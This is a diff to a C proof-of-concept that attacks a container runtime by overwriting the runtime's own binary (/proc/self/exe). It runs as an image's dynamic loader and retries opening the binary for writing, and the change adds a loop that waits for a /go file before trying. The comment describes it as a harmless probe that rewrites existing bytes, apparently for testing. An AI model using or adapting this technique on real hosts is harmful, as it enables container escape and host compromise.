@@ -2,7 +2,8 @@
  *
  * When the kernel runs /proc/self/exe of the runtime, it loads the interpreter that the image has
  * at the path of the dynamic loader: this program.  It keeps the file that it was started for by an
- * O_PATH descriptor, becomes /attacker so that the file is no longer busy, and tries to write to it.
+ * O_PATH descriptor, becomes /attacker so that the file is no longer busy, and tries to write to it,
+ * once there is a file /go: while any command of the runtime runs, the file is busy.
  * It writes the four bytes that are there already: a hit shows in the file's times and harms nobody.
  */
 #define O_PATH 010000000
@@ -76,6 +77,11 @@ static void attack(const char *fd)
 	say("exe ");
 	say(target);
 	say("\n");
+	for (int round = 0; round < 300000; round++) {
+		if (call(OPEN, -100, (long)"/go", O_PATH, 0) >= 0)
+			break;
+		call(SLEEP, (long)pause, 0, 0, 0);
+	}
 	for (int round = 0; round < 400; round++) {
 		long file = call(OPEN, -100, (long)path, O_WRONLY, 0);
 		if (file >= 0) {
